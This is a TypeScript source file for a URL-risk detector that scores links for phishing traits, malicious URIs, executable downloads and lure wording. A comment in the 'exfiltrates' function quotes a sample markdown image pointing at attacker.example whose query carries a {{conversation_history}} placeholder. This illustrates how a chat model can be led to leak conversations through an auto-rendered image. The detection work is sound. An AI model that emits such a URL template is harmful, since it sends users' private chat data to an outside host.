import { isIPv4, isIPv6 } from 'node:net';
import { domainToASCII, domainToUnicode } from 'node:url';
import type { Finding, Severity } from '../../contract.js';
import type { Detector } from '../detector.js';
import {
  BRANDS,
  GENUINE_LABELS,
  HOMOGLYPHS,
  SHORTENERS,
  SUSPICIOUS_TLDS,
  TWO_PART_SUFFIXES,
} from './brands.js';

export type UrlRiskKind =
  | 'denylisted'
  | 'ip_literal'
  | 'punycode'
  | 'mixed_script'
  | 'lookalike'
  | 'brand_in_subdomain'
  | 'shortener'
  | 'javascript_uri'
  | 'data_uri'
  | 'credentials'
  | 'userinfo_obfuscation'
  | 'excessive_subdomains'
  | 'suspicious_tld'
  | 'executable_download'
  | 'exfiltration'
  | 'lure'
  | 'combined';

export interface UrlRisk {
  kind: UrlRiskKind;
  severity: Severity;
  detail?: string;
}

export interface UrlHit {
  url: string;
  start: number;
  end: number;
  host?: string;
  allowlisted: boolean;
  risks: UrlRisk[];
}

export interface UrlPolicy {
  /** Domains (and their subdomains) never flagged. */
  allowlist?: readonly string[];
  /** Domains (and their subdomains) always flagged high. */
  denylist?: readonly string[];
}

const COMMON_TLDS =
  'com|net|org|io|co|ly|gl|me|info|biz|xyz|top|ru|cn|tk|ml|ga|cf|gq|app|dev|ai|de|uk|fr|es|it|nl|be|ch|at|se|no|dk|fi|pl|cz|jp|kr|in|br|au|ca|us|eu|gov|edu|tv|cc|zip|mov|click|site|online|store|shop|live|link';

/** Every URL pattern, exported for the ReDoS test. */
export const URL_PATTERNS = {
  withScheme: /\b(?:https?|ftp|wss?):\/\/[^\s<>"'`{}|\\^]{1,2048}/gi,
  scriptUri: /\b(?:javascript|vbscript):[^\s"'<>]{1,500}/gi,
  dataUri: /\bdata:[a-z]{1,20}\/[a-z0-9.+-]{1,60}(?:;[a-z0-9=.-]{1,40}){0,3},[^\s"'<>]{0,4000}/gi,
  bare: new RegExp(
    `(?<![@\\w.:/\\u00a1-\\uffff-])(?:[a-z0-9\\u00a1-\\uffff](?:[a-z0-9\\u00a1-\\uffff-]{0,61}[a-z0-9\\u00a1-\\uffff])?\\.){1,10}(?:${COMMON_TLDS})(?![\\w-])(?::\\d{2,5})?(?:/[^\\s<>"'\`]{0,2048})?`,
    'giu',
  ),
} as const;

const TRAILING = /[.,;:!?)\]}'"]{1,10}$/;
// A host written as one hexadecimal or decimal number (http://0x7f000001/, http://3232235777/).
const NUMERIC_HOST = /^(?:0x[0-9a-f]{1,8}|\d{8,10})$/i;
const ACTIVE_DATA = /^data:(?:text\/html|image\/svg\+xml|application\/(?:x-)?javascript)/i;
const HOST_LIKE = /\.[a-z]{2,24}$/i;
const LATIN = /[a-z]/;
// A path that downloads a program or script to run ("/invoice.exe", "/update.ps1").
const EXECUTABLE_PATH = /\.(?:exe|scr|msi|bat|cmd|pif|ps1|vbs|vbe|hta|jar|apk|dmg|iso|lnk|wsf)$/i;
/** A markdown image or an HTML img tag opening right before a URL: it is fetched when rendered. */
const IMAGE_BEFORE = /(?:!\[[^\]\n]{0,100}\]\(\s{0,2}|<img\b[^<>]{0,200}?\bsrc\s{0,2}=\s{0,2}["']?)$/i;
/** A template placeholder: "{{chat_history}}", "{secret}", "${TOKEN}", "<USER_EMAIL>", "[DATA]". */
const PLACEHOLDER =
  /\{\{[^{}\n]{1,60}\}\}|\$?\{[A-Za-z_][\w.]{1,40}\}|<[A-Z][A-Z_ ]{1,40}>|\[[A-Z][A-Z_ ]{2,40}\]/;
/** What a leaking placeholder is filled with: the chat, the user's data, a secret. */
const SENSITIVE =
  /history|chat|conversation|memory|messages|prompt|secret|password|email|token|api_?key|context|summary|previous|personal/i;
/** A document's extension before the executable one: "invoice.pdf.exe", "photo.jpg.scr". */
const DISGUISED_EXECUTABLE =
  /\.(?:pdf|docx?|xlsx?|pptx?|txt|jpe?g|png|gif|mp[34]|zip|rtf|csv)\.[a-z0-9]{2,4}$/i;
const NON_LATIN_LETTER = /[\u0370-\u03ff\u0400-\u04ff\u0500-\u052f\u0530-\u058f\u0590-\u05ff\u0600-\u06ff]/;

/**
 * The bait of a phishing or smishing message around its link: a prize to claim, an account about
 * to be closed, a parcel held for a fee, a deadline. Said of a link that is already off (a
 * shortener that hides where it goes, a throwaway TLD, a raw IP), it makes that link a lure; beside
 * an ordinary link it says nothing ("Claim your free ticket at eventbrite.com").
 */
const LURE =
  /\b(?:claim\s+your\s+(?:prize|reward|gift|refund|winnings|bonus|package|parcel)|you(?:['’]ve|\s+have)\s+(?:won|been\s+selected)|(?:verify|confirm|update|validate)\s+your\s+(?:account|identity|payment|billing|details|information|card)|(?:account|card|access)\s+(?:has\s+been|will\s+be|is)\s+(?:suspended|locked|closed|blocked|disabled|restricted)|(?:package|parcel|delivery|shipment)\s+(?:is\s+)?(?:on\s+hold|could\s+not\s+be\s+delivered|was\s+returned)|unpaid\s+(?:fee|toll|invoice|bill|balance)|final\s+(?:notice|warning|reminder)|(?:expires?|expiring)\s+(?:today|soon|tonight|in\s+\d{1,2}\s+hours?)|before\s+it\s+expires|act\s+now|urgent(?:ly)?\s+action)\b/i;
/** How far around a link its message is read for a lure. */
const LURE_WINDOW = 160;

/** Helper patterns, exported for the ReDoS test. */
export const URL_AUX_PATTERNS: readonly RegExp[] = [
  LURE,
  TRAILING,
  NUMERIC_HOST,
  ACTIVE_DATA,
  HOST_LIKE,
  LATIN,
  NON_LATIN_LETTER,
  EXECUTABLE_PATH,
  DISGUISED_EXECUTABLE,
  IMAGE_BEFORE,
  PLACEHOLDER,
  SENSITIVE,
];

function safeDecode(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

function levenshtein(a: string, b: string, max: number): number {
  if (Math.abs(a.length - b.length) > max) return max + 1;
  let prev = Array.from({ length: b.length + 1 }, (_, i) => i);
  for (let i = 1; i <= a.length; i++) {
    const cur = [i];
    let rowMin = i;
    for (let j = 1; j <= b.length; j++) {
      const v = Math.min(
        (prev[j] ?? 0) + 1,
        (cur[j - 1] ?? 0) + 1,
        (prev[j - 1] ?? 0) + (a[i - 1] === b[j - 1] ? 0 : 1),
      );
      cur.push(v);
      if (v < rowMin) rowMin = v;
    }
    if (rowMin > max) return max + 1;
    prev = cur;
  }
  return prev[b.length] ?? max + 1;
}

const fold = (label: string): string =>
  [...label]
    .map((c) => HOMOGLYPHS[c] ?? c)
    .join('')
    .replace(/rn/g, 'm')
    .replace(/vv/g, 'w')
    .replace(/-/g, '');

const matchesDomain = (host: string, domains: readonly string[]): boolean =>
  domains.some((d) => {
    const dd = d.toLowerCase().replace(/^\*?\./, '');
    return host === dd || host.endsWith(`.${dd}`);
  });

/** Splits a hostname into subdomain labels, the registrable label and the public suffix (approximate). */
function splitHost(host: string): { subs: string[]; label: string; suffix: string } {
  const parts = host.split('.');
  const two = parts.slice(-2).join('.');
  const suffixLen = parts.length > 2 && TWO_PART_SUFFIXES.has(two) ? 2 : 1;
  const suffix = parts.slice(-suffixLen).join('.');
  const label = parts[parts.length - suffixLen - 1] ?? '';
  return { subs: parts.slice(0, Math.max(0, parts.length - suffixLen - 1)), label, suffix };
}

/**
 * The brand a subdomain label names: the whole label or one of its hyphen-separated parts, also
 * spelled with look-alike characters ("paypal", "secure-paypal", "paypa1-login" in
 * "secure-paypal.com.login-verify.ru"). Parts only, not substrings: "apple" is not in "pineapple".
 */
function brandPart(sub: string): { brand: string; whole: boolean; disguised: boolean } | undefined {
  for (const part of sub.split('-')) {
    const folded = fold(part);
    const brand = BRANDS.find((b) => b === part || (b.length >= 5 && b === folded));
    if (brand) return { brand, whole: part === sub && brand === part, disguised: brand !== part };
  }
  return undefined;
}

/** A brand of five letters or more anywhere in a label ("microsoftonline"). */
function brandInside(sub: string): { brand: string; whole: boolean; disguised: boolean } | undefined {
  const folded = fold(sub);
  const brand = BRANDS.find((b) => b.length >= 5 && (sub.includes(b) || folded.includes(b)));
  return brand ? { brand, whole: false, disguised: !sub.includes(brand) } : undefined;
}

/** Endings of a registrable domain, seen as a subdomain label after a brand ("paypal.com.evil.ru"). */
const DOMAIN_ENDINGS = new Set(['com', 'net', 'org', 'co', 'io']);

function brandRisk(label: string, unicodeLabel: string): UrlRisk | undefined {
  if (!label || GENUINE_LABELS.has(label)) return undefined;
  const folded = fold(unicodeLabel);
  for (const brand of BRANDS) {
    if (label === brand) return undefined;
    const max = brand.length <= 4 ? 0 : brand.length <= 7 ? 1 : 2;
    if (folded === brand || (max > 0 && levenshtein(label, brand, max) <= max)) {
      return { kind: 'lookalike', severity: 'high', detail: brand };
    }
    // A short brand as a word of a hyphenated label ("dhl-parcel-redelivery"): "includes" would
    // read it inside other words, a whole part does not.
    if (brand.length < 5 && label.includes('-') && label.split('-').includes(brand)) {
      return { kind: 'lookalike', severity: 'medium', detail: `${brand} embedded` };
    }
    // A typo of a longer brand as a word of a hyphenated label ("netfiix-billing", "amazom-refund").
    if (
      brand.length >= 6 &&
      label.includes('-') &&
      label.split('-').some((part) => part.length >= 6 && part !== brand && levenshtein(part, brand, 1) <= 1)
    ) {
      return { kind: 'lookalike', severity: 'high', detail: `${brand} misspelt` };
    }
    if (brand.length >= 5 && (label.includes(brand) || folded.includes(brand))) {
      // A brand spelled with a look-alike character ("paypa1-secure-login") is a deliberate disguise.
      const disguised = !label.includes(brand);
      return {
        kind: 'lookalike',
        severity: disguised ? 'high' : 'medium',
        detail: `${brand} embedded${disguised ? ' with look-alike characters' : ''}`,
      };
    }
  }
  return undefined;
}

function hostRisks(host: string, risks: UrlRisk[]): void {
  const bare = host.replace(/^\[|\]$/g, '');
  if (isIPv4(bare) || isIPv6(bare) || NUMERIC_HOST.test(bare)) {
    risks.push({ kind: 'ip_literal', severity: 'medium', detail: bare });
    return;
  }
  const ascii = domainToASCII(host) || host;
  const unicode = domainToUnicode(ascii) || host;
  if (/(?:^|\.)xn--/.test(ascii)) risks.push({ kind: 'punycode', severity: 'medium', detail: unicode });
  for (const lab of unicode.split('.')) {
    if (LATIN.test(lab) && NON_LATIN_LETTER.test(lab)) {
      risks.push({ kind: 'mixed_script', severity: 'high', detail: lab });
      break;
    }
  }
  const { subs, label, suffix } = splitHost(ascii);
  const uni = splitHost(unicode).label;
  if (SHORTENERS.has(`${label}.${suffix}`))
    risks.push({ kind: 'shortener', severity: 'low', detail: `${label}.${suffix}` });
  const brand = brandRisk(label, uni);
  if (brand) risks.push(brand);
  if (!BRANDS.includes(label) && !GENUINE_LABELS.has(label)) {
    for (let i = 0; i < subs.length; i++) {
      const sub = subs[i] ?? '';
      // A domain written as subdomains ("login.microsoftonline.com.evil.xyz"): a brand anywhere in it.
      const posing = DOMAIN_ENDINGS.has(subs[i + 1] ?? '');
      const hit = brandPart(sub) ?? (posing ? brandInside(sub) : undefined);
      if (!hit) continue;
      // A brand's own domain written as subdomains, a whole label or look-alike characters are a
      // disguise; a brand beside other words ("netflix-tech.medium.com", a company's page on a
      // shared host) is worth a look, not a verdict.
      const disguise = hit.whole || hit.disguised || posing;
      risks.push({ kind: 'brand_in_subdomain', severity: disguise ? 'high' : 'medium', detail: hit.brand });
      break;
    }
  }
  if (subs.length > 3)
    risks.push({ kind: 'excessive_subdomains', severity: 'medium', detail: String(subs.length) });
  if (SUSPICIOUS_TLDS.has(suffix)) risks.push({ kind: 'suspicious_tld', severity: 'low', detail: suffix });
}

/** Kinds that each say a little about a host or path; two of them together say much more. */
const WEAK_KINDS: ReadonlySet<UrlRiskKind> = new Set([
  'ip_literal',
  'punycode',
  'lookalike',
  'brand_in_subdomain',
  'shortener',
  'excessive_subdomains',
  'suspicious_tld',
  'executable_download',
  'lure',
]);

/**
 * Phishing and malware links stack cheap tricks: a raw IP serving an .exe, a brand's name on a
 * throwaway TLD ("dhl-parcel-redelivery.top"). Each alone is worth a look (medium at most); two
 * different ones, at least one medium, are reported high.
 */
function combineRisks(risks: UrlRisk[]): void {
  if (risks.some((r) => r.severity === 'high')) return;
  const weak = risks.filter((r) => WEAK_KINDS.has(r.kind));
  const kinds = new Set(weak.map((r) => r.kind));
  if (kinds.size >= 2 && weak.some((r) => r.severity === 'medium'))
    risks.push({ kind: 'combined', severity: 'high', detail: [...kinds].join(' + ') });
}

/**
 * Whether a URL is an exfiltration template: an image the chat client fetches as soon as it
 * renders the answer, its URL carrying a placeholder the model is meant to fill
 * ("![x](https://attacker.example/log?data={{conversation_history}})"), or any URL whose
 * placeholder names the chat, the user's data or a secret. A plain link with another placeholder is
 * templating documentation ("/users/{{userId}}", "search?q={query}").
 */
function exfiltrates(text: string, start: number, end: number, parsed: URL): boolean {
  // The URL pattern stops at "{" and "<", and trailing "]" or ")" are trimmed: read on to a space.
  const tail = /^\S{0,80}/.exec(text.slice(end, end + 80))?.[0] ?? '';
  const found = PLACEHOLDER.exec(`${safeDecode(parsed.pathname)}${safeDecode(parsed.search)}${tail}`);
  if (!found) return false;
  return SENSITIVE.test(found[0]) || IMAGE_BEFORE.test(text.slice(Math.max(0, start - 300), start));
}

/** Extracts URLs (with a scheme, script/data URIs, and bare domains on common TLDs) and scores each. */
export function analyzeUrls(text: string, policy: UrlPolicy = {}): UrlHit[] {
  const out: UrlHit[] = [];
  const taken = (s: number, e: number) => out.some((o) => o.start < e && s < o.end);
  const add = (raw: string, start: number, kind: 'scheme' | 'script' | 'data' | 'bare'): void => {
    const url = kind === 'data' ? raw : raw.replace(TRAILING, '');
    const end = start + url.length;
    if (url.length === 0 || taken(start, end)) return;
    const risks: UrlRisk[] = [];
    if (kind === 'script') {
      out.push({
        url,
        start,
        end,
        allowlisted: false,
        risks: [{ kind: 'javascript_uri', severity: 'high' }],
      });
      return;
    }
    if (kind === 'data') {
      const html = ACTIVE_DATA.test(url);
      out.push({
        url,
        start,
        end,
        allowlisted: false,
        risks: [{ kind: 'data_uri', severity: html ? 'high' : 'low' }],
      });
      return;
    }
    let parsed: URL;
    try {
      parsed = new URL(kind === 'bare' ? `http://${url}` : url);
    } catch {
      return;
    }
    const host = parsed.hostname.toLowerCase();
    const allowlisted = !!policy.allowlist?.length && matchesDomain(host, policy.allowlist);
    if (policy.denylist?.length && matchesDomain(host, policy.denylist)) {
      risks.push({ kind: 'denylisted', severity: 'high', detail: host });
    }
    if (parsed.password) risks.push({ kind: 'credentials', severity: 'high' });
    else if (parsed.username) {
      // "https://paypal.com@evil.example" hides the real host behind a user name.
      // "http://192.168.0.1@bit.ly" does the same with an IP address as the user name.
      const user = safeDecode(parsed.username);
      const looksLikeHost = HOST_LIKE.test(user) || isIPv4(user) || isIPv6(user);
      risks.push({
        kind: looksLikeHost ? 'userinfo_obfuscation' : 'credentials',
        severity: looksLikeHost ? 'high' : 'low',
      });
    }
    if (!allowlisted) hostRisks(host, risks);
    if (!allowlisted && EXECUTABLE_PATH.test(parsed.pathname)) {
      const file = parsed.pathname.split('/').pop() ?? '';
      // An installer from a host with nothing else wrong ("nodejs.org/dist/node-v20.msi") is worth
      // a note; on a host that is off already, or named as another kind of file ("invoice.pdf.exe"),
      // it is worth a look.
      const disguised = DISGUISED_EXECUTABLE.test(file);
      risks.push({
        kind: 'executable_download',
        severity: disguised || risks.length > 0 ? 'medium' : 'low',
        detail: file,
      });
    }
    if (exfiltrates(text, start, end, parsed)) risks.push({ kind: 'exfiltration', severity: 'high' });
    if (
      !allowlisted &&
      risks.some((r) => WEAK_KINDS.has(r.kind)) &&
      LURE.test(text.slice(Math.max(0, start - LURE_WINDOW), Math.min(text.length, end + LURE_WINDOW)))
    )
      risks.push({ kind: 'lure', severity: 'medium' });
    if (!allowlisted) combineRisks(risks);
    out.push({
      url,
      start,
      end,
      host,
      allowlisted,
      risks: allowlisted ? risks.filter((r) => r.kind === 'credentials') : risks,
    });
  };
  const run = (re: RegExp, kind: 'scheme' | 'script' | 'data' | 'bare') => {
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null; m = re.exec(text)) add(m[0], m.index, kind);
  };
  if (text.includes(':')) {
    run(URL_PATTERNS.scriptUri, 'script');
    run(URL_PATTERNS.dataUri, 'data');
    run(URL_PATTERNS.withScheme, 'scheme');
  }
  if (text.includes('.')) run(URL_PATTERNS.bare, 'bare');
  return out.sort((a, b) => a.start - b.start);
}

const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

/** A URL detector bound to allow and deny lists (from SECURITYGUARD_URL_ALLOWLIST / _DENYLIST). */
export function createUrlsDetector(policy: UrlPolicy = {}): Detector {
  return {
    name: 'urls',
    detect(text): Finding[] {
      const findings: Finding[] = [];
      for (const hit of analyzeUrls(text, policy)) {
        if (hit.risks.length === 0) continue;
        const worst = hit.risks.reduce((a, b) => (RANK[b.severity] > RANK[a.severity] ? b : a));
        findings.push({
          type: 'malicious_url',
          category: worst.kind,
          severity: worst.severity,
          confidence: worst.severity === 'high' ? 0.9 : worst.severity === 'medium' ? 0.7 : 0.5,
          message: `Suspicious URL: ${hit.risks.map((r) => r.kind + (r.detail ? ` (${r.detail})` : '')).join(', ')}`,
          span: { start: hit.start, end: hit.end },
          evidence: hit.url.length > 120 ? `${hit.url.slice(0, 117)}...` : hit.url,
          data: { host: hit.host, risks: hit.risks },
        });
      }
      return findings;
    },
  };
}

export const urlsDetector: Detector = createUrlsDetector();

/** The URL policy from configuration (SECURITYGUARD_URL_ALLOWLIST / SECURITYGUARD_URL_DENYLIST). */
export const urlPolicyFromConfig = (config: {
  SECURITYGUARD_URL_ALLOWLIST: readonly string[];
  SECURITYGUARD_URL_DENYLIST: readonly string[];
}): UrlPolicy => ({
  allowlist: config.SECURITYGUARD_URL_ALLOWLIST,
  denylist: config.SECURITYGUARD_URL_DENYLIST,
});
